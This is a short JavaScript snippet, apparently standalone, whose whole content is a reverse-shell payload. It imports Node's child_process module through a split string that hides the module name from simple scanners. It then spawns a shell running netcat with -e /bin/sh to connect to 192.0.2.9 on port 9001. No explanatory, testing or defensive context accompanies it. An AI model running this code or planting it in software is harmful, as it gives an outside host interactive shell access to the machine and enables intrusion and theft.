const m = await import("node:child_" + "process");
m.spawn("sh", ["-c", "nc 192.0.2.9 9001 -e /bin/sh"]);
